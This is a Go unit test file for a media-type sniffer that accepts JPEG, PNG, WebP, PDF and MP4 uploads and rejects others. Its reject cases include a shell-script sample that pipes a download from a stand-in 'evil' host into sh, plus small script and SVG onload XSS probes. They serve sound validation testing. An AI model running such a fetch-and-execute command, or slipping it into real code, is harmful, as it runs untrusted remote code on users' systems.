package media

import (
	"testing"
)

func TestSniffAccepts(t *testing.T) {
	cases := map[string]struct {
		data []byte
		want string
	}{
		"jpeg":       {encodeJPEG(t, testImage(8, 8), 75), JPEG},
		"png":        {encodePNG(t, testImage(8, 8)), PNG},
		"webp VP8L":  {webpFile(riff("VP8L", dummyVP8L)), WebP},
		"webp VP8X":  {webpFile(riff("VP8X", vp8x(0)), riff("VP8L", dummyVP8L)), WebP},
		"webp VP8":   {webpFile(riff("VP8 ", make([]byte, 10))), WebP},
		"pdf":        {[]byte("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj"), PDF},
		"pdf 2.0":    {[]byte("%PDF-2.0\n"), PDF},
		"mp4 isom":   {ftyp("isom", "isom", "iso2", "avc1", "mp41"), MP4},
		"mp4 mp42":   {ftyp("mp42"), MP4},
		"mp4 M4V":    {ftyp("M4V ", "M4V ", "M4A ", "mp42", "isom"), MP4},
		"mp4 dash":   {ftyp("dash", "iso6", "mp41"), MP4},
		"mp4 MSNV":   {ftyp("MSNV", "MSNV"), MP4},
		"mp4 compat": {ftyp("XAVC", "XAVC", "mp42", "iso2"), MP4},
		"mp4 + moov": {bytesJoin(ftyp("iso5"), box("moov")), MP4},
	}
	for name, tc := range cases {
		got, ok := Sniff(tc.data)
		if !ok || got != tc.want {
			t.Errorf("%s: Sniff = %q, %v; want %q", name, got, ok, tc.want)
		}
		if Extension(got) == "" {
			t.Errorf("%s: no extension for %q", name, got)
		}
	}
}

func TestSniffRejects(t *testing.T) {
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 56)...)
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 48)...)
	jpg := encodeJPEG(t, testImage(8, 8), 75)
	png := encodePNG(t, testImage(8, 8))
	full := ftyp("isom", "isom")
	cases := map[string][]byte{
		"empty":            nil,
		"ELF":              elf,
		"PE":               pe,
		"shell script":     []byte("#!/bin/sh\ncurl http://evil | sh\n"),
		"HTML":             []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"),
		"SVG":              []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"SVG bare":         []byte(`<svg xmlns="http://www.w3.org/2000/svg"></svg>`),
		"zip":              []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00foto.jpg"),
		"GIF":              []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"),
		"text":             []byte("Jalan rusak di depan sekolah"),
		"BMP":              []byte("BM\x36\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"),
		"WAV":              []byte("RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00"),
		"AVI":              []byte("RIFF\x24\x00\x00\x00AVI LIST\x10\x00\x00\x00"),
		"jpeg 2 bytes":     jpg[:2],
		"jpeg 3 bytes":     jpg[:3],
		"jpeg bad 4th":     {0xFF, 0xD8, 0xFF, 0x00, 0x10},
		"png 7 bytes":      png[:7],
		"png signature":    png[:8],
		"png no IHDR":      append(append([]byte{}, png[:8]...), "\x00\x00\x00\x0dtEXt"...),
		"webp 11 bytes":    []byte("RIFF\x00\x00\x00\x00WEB"),
		"webp 12 bytes":    []byte("RIFF\x00\x00\x00\x00WEBP"),
		"webp bad chunk":   []byte("RIFF\x10\x00\x00\x00WEBPEXIF\x00\x00\x00\x00"),
		"pdf 4 bytes":      []byte("%PDF"),
		"pdf no version":   []byte("%PDF-"),
		"pdf bad version":  []byte("%PDF-x.y\n"),
		"pdf not at start": []byte(" %PDF-1.4\n"),
		"mp4 truncated":    full[:len(full)-1],
		"mp4 8 bytes":      full[:8],
		"mp4 quicktime":    ftyp("qt  ", "qt  "),
		"mp4 qt + isom":    ftyp("qt  ", "isom"),
		"mp4 3gp":          ftyp("3gp4", "3gp4"),
		"mp4 3gp + isom":   ftyp("3gp5", "isom", "3gp5"),
		"mp4 heic":         ftyp("heic", "mif1", "heic", "iso8"),
		"mp4 avif":         ftyp("avif", "avif", "mif1", "miaf", "isom"),
		"mp4 unknown":      ftyp("abcd", "efgh"),
		"mp4 odd size":     append([]byte{0, 0, 0, 18}, "ftypisom\x00\x00\x00\x00is"...),
		"mp4 no ftyp":      box("moov", []byte("isomisomisom")),
		"mp4 ftyp at 8":    append([]byte{0, 0, 0, 8, 'f', 'r', 'e', 'e'}, ftyp("isom")...),
	}
	for name, data := range cases {
		if got, ok := Sniff(data); ok || got != "" {
			t.Errorf("%s: Sniff = %q, %v; want \"\", false", name, got, ok)
		}
	}
}

func TestExtension(t *testing.T) {
	for ct, want := range map[string]string{JPEG: ".jpg", PNG: ".png", WebP: ".webp", PDF: ".pdf", MP4: ".mp4", "image/gif": "", "": "", "IMAGE/JPEG": ""} {
		if got := Extension(ct); got != want {
			t.Errorf("Extension(%q) = %q, want %q", ct, got, want)
		}
	}
}
